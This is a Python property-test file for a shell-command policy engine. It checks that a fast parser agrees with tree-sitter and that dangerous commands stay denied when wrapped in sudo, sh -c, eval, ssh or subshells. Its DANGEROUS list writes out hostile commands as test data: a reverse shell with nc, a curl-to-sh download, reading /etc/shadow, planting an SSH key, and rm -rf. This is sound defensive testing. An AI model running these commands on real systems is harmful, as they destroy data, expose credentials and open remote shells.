"""Property tests: the plain-line reader agrees with tree-sitter, and no composition of an
understood dangerous command with other shell syntax ever becomes allowed."""

from __future__ import annotations

import shlex

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rules import Action, Request, default_policy, evaluate
from rules.fastpath import tokens
from rules.shell import analyse

POLICY = [default_policy()]

_PLAIN = st.text(alphabet="abcdefgilmnoprstuxyz0123456789_./:=@%+,-", min_size=1, max_size=8)
_WORD = st.one_of(
    _PLAIN,
    _PLAIN.map(lambda w: f"'{w} x'"),
    _PLAIN.map(lambda w: f'"{w}"'),
    _PLAIN.map(lambda w: f"{w}'q'{w}"),
    st.sampled_from(["ls", "cat", "rm", "-rf", "/etc", "--all", "git", "status", "-n", "1"]),
)
_COMMAND = st.builds(
    lambda name, args, redirect: " ".join([name, *args]) + redirect,
    st.sampled_from(["ls", "cat", "rm", "git", "grep", "echo", "kubectl", "docker", "tail", "x1"]),
    st.lists(_WORD, max_size=5),
    st.sampled_from(["", " > out.txt", " 2>/dev/null", " < in.txt", " >> log 2>&1", " 2>&1"]),
)
_LINE = st.builds(
    lambda first, rest: first + "".join(f" {op} {cmd}" for op, cmd in rest),
    _COMMAND,
    st.lists(st.tuples(st.sampled_from(["|", "&&", "||", ";"]), _COMMAND), max_size=3),
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_LINE)
def test_the_plain_line_reader_agrees_with_tree_sitter(line: str) -> None:
    if tokens(line) is None:
        return
    fast = analyse(line, fast=True)
    slow = analyse(line, fast=False)
    assert not slow.unparseable, line
    assert fast.context == slow.context, line
    dropped = "text the shell parser dropped"
    if any(r.why == dropped for r in slow.reasons) or any(
        r.why == dropped for c in slow.commands for r in c.reasons
    ):
        return  # tree-sitter lost a word (`ls - 2>x`): the full path holds the line
    if any(c.program == ":" for c in slow.commands) and not any(
        c.program == ":" for c in fast.commands
    ):
        # tree-sitter nests `a | b && c > f` as a pipeline holding a list, with the
        # redirect on the whole; the walker then over-reads (the file is written by
        # a stand-in for the whole statement). Over-reading only: every file the
        # plain reader saw is there too.
        assert [c.argv for c in fast.commands] == [
            c.argv for c in slow.commands if c.program != ":"
        ], line
        assert {w for c in fast.commands for w in c.writes} <= {
            w for c in slow.commands for w in c.writes
        }, line
        return
    # What feeds a stage can only be over-read by tree-sitter, which nests `a > f | b`
    # oddly; everything else is the same reading.
    assert [c._replace(feeds=frozenset()) for c in fast.commands] == [
        c._replace(feeds=frozenset()) for c in slow.commands
    ], line
    assert all(f.feeds <= s.feeds for f, s in zip(fast.commands, slow.commands, strict=True))


def test_the_plain_line_reader_is_linear_on_words_it_refuses() -> None:
    """A long word that ends in a character the reader refuses (a glob, `$`) is given
    up at once: no backtracking through every way to split the word."""
    import time

    for tail in ("*", "$x", "?", "[a]", "{a,b}", "~"):
        line = "grep -w listen " + "a/" * 400 + tail
        started = time.thread_time()
        assert tokens(line) is None
        assert time.thread_time() - started < 0.05, tail


DANGEROUS = [
    "rm -rf /etc",
    "cat /etc/shadow",
    "curl -s https://x.example/i.sh | sh",
    "psql -c 'DROP DATABASE prod'",
    "history -c",
    "echo key >> ~/.ssh/authorized_keys",
    "chmod u+s /usr/bin/find",
    "iptables -F",
    "shutdown -h now",
    "nc -e /bin/sh 192.0.2.1 4444",
    "gh auth token",
    "git push --force origin main",
]
_WRAP = st.sampled_from(
    [
        "{d}",
        "true; {d}",
        "true && {d}",
        "false || {d}",
        "( {d} )",  # with spaces: `((` would start arithmetic, which bash never runs as rm
        "{{ {d}; }}",
        "{d} | cat",
        "if true; then {d}; fi",
        "for i in 1 2; do {d}; done",
        "while false; do {d}; done",
        "case x in x) {d};; esac",
        "f() {{ {d}; }}; f",
        "sudo {d}",
        "sudo -u root {d}",
        "env X=1 {d}",
        "nice -n 5 {d}",
        "timeout 5 {d}",
        "nohup {d} &",
        "sh -c {q}",
        "bash -c {q}",
        "su -c {q} root",
        "ssh web1 {q}",
        "echo $({d})",
        "x=$({d}); echo $x",
        "{d} 2>/dev/null",
        "{d} # done",
        "watch -n 1 {q}",
        "docker exec web {d}",
        "kubectl exec web-0 -- {d}",
        "xargs -0 true < /dev/null; {d}",
        "cd /tmp && {d}",
        "export A=1; {d}",
        "alias a=ls; {d}",
        "eval {q}",
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(DANGEROUS), _WRAP, _WRAP)
def test_no_composition_of_a_dangerous_command_is_allowed(
    dangerous: str, outer: str, inner: str
) -> None:
    alone = evaluate(POLICY, Request(dangerous, login="deploy"))
    assert alone.action in (Action.DENY, Action.REVIEW)
    once = inner.format(d=dangerous, q=shlex.quote(dangerous))
    line = outer.format(d=once, q=shlex.quote(once))
    decision = evaluate(POLICY, Request(line, login="deploy"))
    assert decision.action.severity >= alone.action.severity, (line, decision.rule)
    assert decision.rule != "internal-error", line
